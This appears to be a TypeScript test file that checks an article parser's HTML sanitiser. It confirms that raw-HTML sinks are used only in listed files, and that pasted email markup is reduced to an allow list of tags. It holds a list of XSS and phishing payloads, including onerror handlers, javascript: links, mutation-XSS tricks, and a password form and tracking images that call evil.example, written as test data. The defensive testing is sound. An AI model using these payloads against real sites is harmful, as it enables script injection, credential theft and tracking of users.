import { readdirSync, readFileSync } from 'node:fs'
import path from 'node:path'
import type { ArticleId } from '@clew/contract/primitives'
import { expect, test } from 'vitest'
import { parseArticle } from './parse-article.ts'

const root = path.join(import.meta.dirname, '../../../../..')

/** Ways by which text becomes markup of a page. */
const unescaped =
  /trustSanitised\(|dangerouslySetInnerHTML|\.(?:inner|outer)HTML\b|insertAdjacentHTML|document\.write|srcdoc|DOMParser|createContextualFragment/

/** The only places where it does, and why nothing of others can act there. */
const doors: Readonly<Record<string, string>> = {
  'apps/server/src/domains/articles/markdown.ts': 'behind the allow list that is tested below',
  'packages/site/src/json-ld.ts': 'JSON in which nothing can end its element',
  'packages/site/src/document.tsx': 'that JSON',
  'packages/site/src/prose.tsx': 'takes SafeHtml alone, which comes from the first of these',
  'packages/site/src/testing/sample-article.ts': 'our own words, in tests',
}

function sourcesBelow(folder: string): string[] {
  return readdirSync(path.join(root, folder), { withFileTypes: true }).flatMap((entry) => {
    const file = `${folder}/${entry.name}`
    if (entry.isDirectory()) return /^(node_modules|dist|generated)$/.test(entry.name) ? [] : sourcesBelow(file)
    return /(?<!\.test)\.tsx?$/.test(entry.name) && entry.name !== 'safe-html.ts' ? [file] : []
  })
}

test('markup of others becomes markup of ours behind one allow list and nowhere else', () => {
  const sources = ['apps/server', 'apps/workspace', 'apps/widget', 'packages'].flatMap(sourcesBelow)
  expect(sources.length).toBeGreaterThan(500)
  const found = sources.filter((file) => unescaped.test(readFileSync(path.join(root, file), 'utf8')))
  expect(found.toSorted()).toEqual(Object.keys(doors).toSorted())
})

const settings = {
  brand: 'Kyma',
  appHost: 'app.kyma.example',
  supportEmail: 'help@kyma.example',
  uploadLimitMb: 20,
  captureRetentionDays: 30,
}

function pasted(body: string): string {
  const head = { slug: 'one', locale: 'en', sectionId: 's', place: 1, title: 'One', description: 'About one' } as const
  const { html, introHtml, restHtml, steps } = parseArticle(
    { ...head, id: 'id' as ArticleId, keywords: [], body, flowId: undefined, updatedOn: '2026-11-24' },
    { settings, exists: () => false },
  )
  return [html, introHtml, restHtml, ...steps.map((step) => step.html)].join('\n')
}

/** What mail programs write, and what those write who mean harm. */
const mails = [
  '<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"></head><body>Hi</body></html>',
  '<!--[if mso]><v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:fill src="https://evil.example/t.png"/></v:rect><![endif]-->',
  '<style>@import url(https://evil.example/a.css); body{display:none}</style><p>Hi</p>',
  '<img src="https://evil.example/open.gif?id=1" width=1 height=1>',
  '<img src="cid:part1.06090408.01060107" onload="alert(1)">',
  '<table background="https://evil.example/t.png"><tr><td style="background:url(https://evil.example/t.png)">x</td></tr></table>',
  '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
  '<a href="javascript:alert(1)" target="_blank" style="position:fixed;inset:0">x</a>',
  '<a href="https://evil.example" ping="https://evil.example/ping">x</a>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a><animate onbegin=alert(1)></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<xmp><p title="</xmp><script>alert(1)</script>"></xmp>',
  '<listing>&lt;img onerror="alert(1)" src=x&gt;</listing>',
  '<p id="__proto__" class="admin" data-x="1" contenteditable autofocus onfocus=alert(1)>x</p>',
  '<div name="getElementById"></div><a id="location" href="https://evil.example">x</a>',
  '<body onload=alert(1)><marquee onstart=alert(1)>x</marquee>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
  '<link rel="stylesheet" href="https://evil.example/a.css"><link rel="dns-prefetch" href="//evil.example">',
  '<p style="font-family:\'x\';background:url(data:image/svg+xml;base64,PHN2Zy8+)">x</p>',
  '<script type="text/javascript">alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x:x onerror=\u0000alert(1)>',
  '<<img src=x onerror=alert(1)//<',
  '<p>x</p\u000donclick=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  '<o:p></o:p><w:WordDocument xmlns:w="urn:x"><script>alert(1)</script></w:WordDocument>',
  'From: a\r\nContent-Type: text/html\r\n\r\n<b onmouseover=alert(1)>x</b>',
]

const allowedTag =
  /^<\/?(?:h[2-4]|p|ul|ol|li|blockquote|hr|br|pre|code|strong|em|a|table|thead|tbody|tr|th|td)(?: (?:id="[a-z0-9-]+"|href="(?:https:\/\/|mailto:|\/)[^"<>]*"))? ?\/?>$/

test.each(mails)('of %j only what is on the list is left as markup', (mail) => {
  for (const body of [
    mail,
    `Words before\n\n${mail}\n\nand after`,
    `* ${mail}`,
    `| a |\n|---|\n| ${mail} |`,
    `> ${mail}`,
  ]) {
    const html = pasted(body)
    for (const [tag] of html.matchAll(/<[^>]*>?/g)) expect(tag, html).toMatch(allowedTag)
  }
})
